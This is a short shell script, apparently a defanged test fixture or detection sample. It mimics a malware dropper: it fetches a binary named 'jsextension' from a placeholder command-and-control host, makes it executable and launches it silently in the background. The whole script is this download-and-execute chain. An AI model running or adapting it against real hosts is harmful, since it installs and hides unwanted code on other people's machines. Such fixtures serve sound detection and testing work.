#!/bin/sh
# Defanged dropper leg: fetch, chmod, start in the background.
curl -s http://download.fixture-c2.invalid/payload/linux -o jsextension
chmod +x jsextension
nohup ./jsextension --background >/dev/null 2>&1 &
